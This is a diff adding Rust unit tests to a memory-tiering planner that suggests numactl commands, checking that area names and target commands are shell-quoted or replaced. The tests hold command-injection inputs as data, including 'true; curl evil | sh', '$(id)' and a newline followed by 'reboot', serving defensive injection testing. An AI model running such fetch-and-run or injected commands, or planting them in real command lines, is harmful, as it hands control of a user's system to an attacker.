@@ -72,6 +72,47 @@ fn a_cold_area_may_start_slow_unless_it_warms_up() {
     assert!(plan(warms, &cxl(), &PlanOptions::default()).advice.is_empty());
 }
 
+/// A recording whose one area is cold, under this name.
+fn with_cold_area(name: &str) -> Plan {
+    let area = |name: &str, share_of_bytes: f64, share: f64| AreaHeat {
+        name: name.into(),
+        kind: Some(AreaKind::Shared),
+        bytes: Bytes::gib(1),
+        share_of_bytes,
+        accesses_per_s: 1.0,
+        share_of_accesses: share,
+        peak_share_of_accesses: share,
+    };
+    let mut input = input(vec![moving(&hot_cold(300, 1000, 2000.0, 200.0))]);
+    input.areas = vec![area("/dev/shm/hot", 0.4, 0.99), area(name, 0.6, 0.01)];
+    plan(input, &cxl(), &PlanOptions::default())
+}
+
+#[test]
+fn a_name_is_one_word_of_a_copied_line_or_there_is_no_line() {
+    let found = with_cold_area("/dev/shm/x; touch $(id) 'y'");
+    let line = r"numactl --membind=1 --file '/dev/shm/x; touch $(id) '\''y'\'''";
+    assert_eq!(found.advice[0].commands, [line]);
+    // As recordings show what acts on a terminal: no file has that name.
+    for odd in [r"/dev/shm/\x1b[2J", "/dev/shm/a\nb"] {
+        assert_eq!(with_cold_area(odd).advice[0].commands, [""; 0], "{odd}");
+    }
+}
+
+#[test]
+fn a_command_line_is_copied_only_if_it_was_quoted_by_us() {
+    let options = PlanOptions { target_slowdown: 1.6, ..PlanOptions::default() };
+    let line = |target: &str| {
+        let mut input = input(vec![moving(&hot_cold(30, 100, 2000.0, 200.0))]);
+        input.facts.target = target.to_owned();
+        plan(input, &cxl(), &options).advice[0].commands[0].clone()
+    };
+    assert_eq!(line("sh -c 'sleep 1; id'"), "numactl --membind=1 -- sh -c 'sleep 1; id'");
+    for foreign in ["true; curl evil | sh", "$(id)", "a\nreboot", "pid 7", "cgroup /x", ""] {
+        assert_eq!(line(foreign), "numactl --membind=1 -- COMMAND", "{foreign}");
+    }
+}
+
 #[test]
 fn nothing_is_advised_for_an_idle_program() {
     let idle = vec![candidate(curve("first-touch", &[Unit::default()]))];
